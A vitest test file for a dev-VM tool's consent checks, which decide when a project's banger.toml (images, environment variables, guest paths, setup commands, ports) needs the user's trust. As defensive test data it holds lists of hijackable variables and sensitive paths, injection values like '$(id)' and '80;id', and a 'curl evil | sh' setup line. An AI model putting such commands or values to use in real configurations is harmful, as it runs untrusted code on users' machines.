import { writeFileSync } from 'node:fs';
import { join, posix } from 'node:path';
import { afterEach, beforeEach, expect, test } from 'vitest';
import { readTemplate } from '../../../src/engine/setup/read-template.ts';
import { admitTemplate, asksFor, needsConsent } from '../../../src/engine/setup/template-consent.ts';
import { parseConfig } from '../../../src/state/config.ts';
import { openDatabase, type Database } from '../../../src/state/database.ts';
import { insertImage, setImageName } from '../../../src/state/images.ts';
import { makeTempDirectory } from '../../support/git-repo.ts';

let db: Database;
let tree: string;
let remove: () => void;
beforeEach(() => {
  ({ path: tree, remove } = makeTempDirectory());
  db = openDatabase(':memory:');
});
afterEach(() => {
  db.close();
  remove();
});

const write = (text: string): void => writeFileSync(join(tree, 'banger.toml'), text);
const current = async () => (await readTemplate(tree, { hasImage: false }))!.template;
const catalog: Record<string, string> = {};
const context = () => ({
  db,
  config: () => ({ ...parseConfig('', 'config.toml'), image: 'example.com/mine', catalog }),
});
const admit = async (trust: boolean, sha256?: string, hasImage = false) =>
  admitTemplate(context(), tree, { choice: { sha256: sha256 ?? (await current()).sha256, trust }, hasImage });

test('what only shapes the VM takes no consent: image, size, known variables, ports on the loopback, a usual place', async () => {
  write(
    'image = "node"\ncpus = 2\nports = [3000, "8080:80"]\nguest_path = "/srv/app"\n[env]\nNODE_ENV = "test"\nPORT = "3000"\nTZ = "Europe/Berlin"\nDEBUG = "app:*"\nLANG = "C.UTF-8"\n',
  );
  expect((await admit(false)).template.image).toBe('node');
});

test('an image of whomever takes consent, and one that is here, that the user names, or of a known publisher does not', async () => {
  for (const image of ['evil/node', 'ghcr.io/library/node', 'localhost:5000/x', 'mcr.microsoft.com/evil']) {
    write(`image = "${image}"\n`);
    await expect(admit(false), image).rejects.toThrow('Nobody has agreed');
    expect(asksFor(context(), await current())).toMatchObject({ image, commands: [] });
    // That of the file is not used then.
    await admit(false, undefined, true);
  }
  await admit(true);
  await admit(false);
  catalog['mine'] = 'example.com/other';
  const known = ['base', 'node:22', 'docker.io/library/nothing', 'oven/bun', 'mine', 'example.com/mine'];
  for (const image of [...known, 'mcr.microsoft.com/devcontainers/typescript-node:20', 'NOT//an image']) {
    write(`image = "${image}"\n`);
    await admit(false);
  }
  write('image = "team/app:1"\n');
  await expect(admit(false)).rejects.toThrow('Nobody has agreed');
  const id = 'a'.repeat(64);
  const found = { sizeBytes: 1, contentBytes: 1, layers: [], osRelease: {}, hasShell: true, createdAt: '' };
  insertImage(db, { id, source: 'pull', config: { env: [] }, ...found });
  setImageName(db, 'docker.io/team/app:1', id);
  await admit(false);
});

test('a variable of which it is not known what programs do with it takes consent, whatever its value', async () => {
  const names = [
    ...[
      'MISE_ENV',
      'LD_PRELOAD',
      'BASH_ENV',
      'ENV',
      'PATH',
      'NODE_OPTIONS',
      'PYTHONSTARTUP',
      'GIT_SSH_COMMAND',
    ],
    ...['npm_config_registry', 'https_proxy', 'MAKEFLAGS', 'MAKEFILES', 'OPENSSL_CONF', 'LUA_INIT', 'PHPRC'],
    ...[
      'PHP_INI_SCAN_DIR',
      'DOTNET_STARTUP_HOOKS',
      'CORECLR_PROFILER_PATH',
      'R_PROFILE_USER',
      'ERL_AFLAGS',
      'CC',
    ],
    ...['SSH_ASKPASS', 'SUDO_ASKPASS', 'MANPAGER', 'SYSTEMD_PAGER', 'BROWSER', 'VIMINIT', 'EXINIT', 'PSQLRC'],
    ...['NODE_EXTRA_CA_CERTS', 'KUBECONFIG', 'DOCKER_HOST', 'AWS_CONFIG_FILE', 'ANTHROPIC_BASE_URL'],
    ...['WHAT_NOBODY_KNOWS', 'node_env', 'constructor'],
  ];
  // A file of the tree can be called "1".
  for (const value of ['', '1', 'x']) {
    write(`[env]\nNODE_ENV = "dev"\n${names.map((name) => `${name} = "${value}"\n`).join('')}`);
    await expect(admit(false)).rejects.toThrow('Nobody has agreed');
    expect(asksFor(context(), await current()).variables).toEqual(names.map((name) => `${name}=${value}`));
  }
});

test('a variable that is known, with a value that may be more than it says, takes consent', async () => {
  const values = {
    ...{
      NODE_ENV: '../x',
      APP_ENV: 'a b',
      TZ: '/tmp/x',
      LANG: '../x',
      LC_ALL: 'C\n',
      DEBUG: '$(id)',
      RUST_LOG: '/x',
    },
    ...{ HOST: 'example.com', PORT: '80;id', WEB_PORT: 'x', CI: 'true\n', DEBIAN_FRONTEND: 'x' },
  };
  const all = Object.entries(values);
  write(`[env]\n${all.map(([name, value]) => `${name} = ${JSON.stringify(value)}\n`).join('')}`);
  expect(asksFor(context(), await current()).variables).toEqual(
    all.map(([name, value]) => `${name}=${value}`),
  );
});

test.each([
  ...[
    '/root/.config/mise',
    '/root/.config',
    '/root/.ssh',
    '/root/x/.git/hooks',
    '/etc/mise',
    '/etc/profile.d',
  ],
  ...[
    '/usr/local/bin',
    '/usr/bin',
    '/opt/app',
    '/app',
    '/root/bin',
    '/root/mise',
    '/workspaces/node_modules',
  ],
  ...['/root/a/../.local/bin', '/home/me', '/workspaces', '/var/www'],
])(
  'a tree that wants to be in %s, where programs may look for files of theirs, takes consent',
  async (place) => {
    write(`guest_path = "${place}"\n`);
    await expect(admit(false)).rejects.toThrow('Nobody has agreed');
    expect(asksFor(context(), await current())).toMatchObject({
      place: posix.normalize(place),
      commands: [],
      variables: [],
    });
    await admit(true);
    await admit(false);
  },
);

test.each([
  ...['/root', '/home/dev/src', '/srv', '/work', '/workspaces'].map((parent) => `${parent}/my app`),
  '/work',
  '/workspace',
])('a tree that wants to be in %s, where trees are, takes no consent', async (place) => {
  write(`guest_path = "${place}"\n`);
  expect((await admit(false)).template.guestPath).toBe(place);
});

test.each(['setup = ["make"]', 'ports = ["0.0.0.0:80:80"]', 'ports = ["127.0.0.2::80"]'])(
  '%s takes consent, once',
  async (text) => {
    write(`${text}\n`);
    await expect(admit(false)).rejects.toMatchObject({
      code: 'invalid_argument',
      hint: expect.stringContaining('--trust') as string,
    });
    await admit(true);
    await admit(false);
  },
);

test('another byte asks again, what was agreed to before does not, and another tree is another tree', async () => {
  write('setup = ["make"]\n');
  const first = await current();
  await admit(true);
  write('setup = ["make"] # harmless\n');
  await expect(admit(false)).rejects.toThrow('Nobody has agreed');
  await admit(true);
  write('setup = ["make"]\n');
  await admit(false);
  expect(needsConsent(context(), `${tree}-other`, { template: first, hasImage: false })).toBe(true);
  expect(
    needsConsent(context(), tree, { template: { ...first, file: '.devcontainer.json' }, hasImage: false }),
  ).toBe(true);
});

test('consent to the file that was shown is none to the one that is there now, and is not kept', async () => {
  write('setup = ["make"]\n');
  const { sha256 } = await current();
  write('setup = ["curl evil | sh"]\n');
  await expect(admit(true, sha256)).rejects.toMatchObject({ code: 'busy' });
  await expect(admit(false)).rejects.toThrow('Nobody has agreed');
  write('setup = ["make"]\n');
  await expect(admit(false)).rejects.toThrow('Nobody has agreed');
});
